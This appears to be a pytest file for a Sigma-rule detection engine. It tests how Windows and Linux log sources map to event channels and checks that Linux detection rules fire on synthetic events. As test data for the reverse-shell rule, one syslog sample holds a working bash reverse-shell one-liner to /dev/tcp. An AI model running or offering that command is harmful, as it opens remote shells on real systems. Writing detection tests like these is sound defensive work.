"""Log source mapping: Windows categories and services, Linux categories and services."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sigma.rule import SigmaLogSource

from vigil.engine.sigma import (
    AUDIT_CHANNEL,
    LINUX_SYSMON_CHANNEL,
    SYSLOG_CHANNEL,
    SYSMON_CHANNEL,
    UnsupportedLogSource,
    map_logsource,
)

LOGSOURCE_JSON = Path("../shared/data/sigma/meta/logsource.json")


def ls(**kw: str) -> SigmaLogSource:
    return SigmaLogSource(**kw)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("category", "events"),
    [
        ("process_creation", ((SYSMON_CHANNEL, (1,)),)),
        ("network_connection", ((SYSMON_CHANNEL, (3,)),)),
        ("registry_event", ((SYSMON_CHANNEL, (12, 13, 14)),)),
        ("registry_set", ((SYSMON_CHANNEL, (13,)),)),
        ("dns_query", ((SYSMON_CHANNEL, (22,)),)),
        ("file_delete", ((SYSMON_CHANNEL, (23, 26)),)),
        (
            "ps_script",
            (("Microsoft-Windows-PowerShell/Operational", (4104,)), ("PowerShellCore/Operational", (4104,))),
        ),
        ("ps_classic_start", (("Windows PowerShell", (400,)),)),
    ],
)
def test_windows_categories(category: str, events: tuple[tuple[str, tuple[int, ...]], ...]) -> None:
    mapping = map_logsource(ls(product="windows", category=category))
    assert mapping.events == events
    assert mapping.producer == "scan"


def test_windows_services() -> None:
    assert map_logsource(ls(product="windows", service="security")).events == (("Security", ()),)
    assert map_logsource(ls(product="windows", service="sysmon")).events == ((SYSMON_CHANNEL, ()),)
    assert map_logsource(ls(product="windows", service="smbserver-connectivity")).events == (
        ("Microsoft-Windows-SMBServer/Connectivity", ()),
    )
    assert map_logsource(ls(product="windows")).events == ()


def test_every_windows_category_and_service_of_the_sigma_taxonomy_is_mapped_or_explained() -> None:
    taxonomy = json.loads(LOGSOURCE_JSON.read_text())["legit"]["windows"]
    for category in taxonomy["category"]:
        try:
            assert map_logsource(ls(product="windows", category=category)).events
        except UnsupportedLogSource as e:
            assert "ETW" in e.reason, (category, e.reason)
    for service in taxonomy["service"]:
        assert map_logsource(ls(product="windows", service=service)).events, service


def test_linux() -> None:
    m = map_logsource(ls(product="linux", category="process_creation"))
    assert (m.events, m.producer) == (((LINUX_SYSMON_CHANNEL, (1,)),), "live")
    assert map_logsource(ls(product="linux", category="network_connection")).events == (
        (LINUX_SYSMON_CHANNEL, (3,)),
    )
    assert map_logsource(ls(product="linux", category="file_event")).events == (
        (LINUX_SYSMON_CHANNEL, (11,)),
    )
    assert map_logsource(ls(product="linux", category="file_delete")).events == (
        (LINUX_SYSMON_CHANNEL, (23,)),
    )
    assert map_logsource(ls(product="linux", category="dns_query")).events == ((LINUX_SYSMON_CHANNEL, (22,)),)
    assert map_logsource(ls(product="linux", category="process_termination")).events == (
        (LINUX_SYSMON_CHANNEL, (5,)),
    )
    m = map_logsource(ls(product="linux", service="auditd"))
    assert (m.events, m.producer) == (((AUDIT_CHANNEL, ()),), "scan")
    assert map_logsource(ls(product="linux")).events == ((SYSLOG_CHANNEL, ()),)
    assert map_logsource(ls(product="linux", service="sshd")).events == ((SYSLOG_CHANNEL, ()),)


@pytest.mark.parametrize(
    ("kw", "words"),
    [
        ({"product": "aws", "service": "cloudtrail"}, ["aws", "cloudtrail"]),
        ({"product": "windows", "category": "file_access"}, ["file_access", "Kernel-File ETW"]),
        ({"product": "windows", "category": "no_such_thing"}, ["no_such_thing"]),
        ({"product": "windows", "service": "no-such-service"}, ["no-such-service"]),
        ({"product": "linux", "category": "proc_hollowing"}, ["proc_hollowing", "process_creation"]),
        ({"product": "linux", "service": "no-such-daemon"}, ["no-such-daemon"]),
    ],
)
def test_unsupported_log_sources_say_why(kw: dict[str, str], words: list[str]) -> None:
    with pytest.raises(UnsupportedLogSource) as info:
        map_logsource(ls(**kw))
    for word in words:
        assert word in info.value.reason


LINUX = Path("../shared/data/sigma/rules/linux")


def _linux_engine():  # type: ignore[no-untyped-def]
    from vigil.engine import Engine

    engine = Engine()
    engine.load_path(LINUX)
    return engine


def test_linux_rules_fire_on_the_events_vigil_produces() -> None:
    engine = _linux_engine()

    def sysmon(eid: int, **data: str) -> dict[str, object]:
        return {
            "Event": {"System": {"Channel": LINUX_SYSMON_CHANNEL, "EventID": str(eid)}, "EventData": data}
        }

    base64 = "e2072cab-8c9a-459b-b63c-40ae79e27031"  # proc_creation_lnx_base64_decode
    assert base64 in engine.match(sysmon(1, Image="/usr/bin/base64", CommandLine="base64 -d x")).sigma_ids
    assert base64 not in engine.match(sysmon(1, Image="/usr/bin/base64", CommandLine="base64 x")).sigma_ids
    # Same fields on another EventID (a network connection) is not a process creation.
    assert base64 not in engine.match(sysmon(3, Image="/usr/bin/base64", CommandLine="base64 -d x")).sigma_ids

    # auditd rules read one audit record per event on the Linux-Audit channel.
    def audit(**data: str) -> dict[str, object]:
        return {"Event": {"System": {"Channel": AUDIT_CHANNEL}, "EventData": data}}

    arecord = "a7af2487-9c2f-42e4-9bb9-ff961f0561d5"  # lnx_auditd_audio_capture
    assert arecord in engine.match(audit(type="EXECVE", a0="arecord", a1="-vv", a2="-fdat")).sigma_ids
    assert arecord not in engine.match(audit(type="EXECVE", a0="arecord", a1="-l")).sigma_ids

    # Syslog keyword rules search the line.
    def syslog(message: str) -> dict[str, object]:
        return {"Event": {"System": {"Channel": SYSLOG_CHANNEL}, "EventData": {"Message": message}}}

    rev_shell = "738d9bcf-6999-4fdb-b4ac-3033037db8ab"  # lnx_shell_susp_rev_shells
    assert rev_shell in engine.match(syslog("sh[12]: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")).sigma_ids
    assert rev_shell not in engine.match(syslog("sshd[1]: Accepted publickey for bob")).sigma_ids
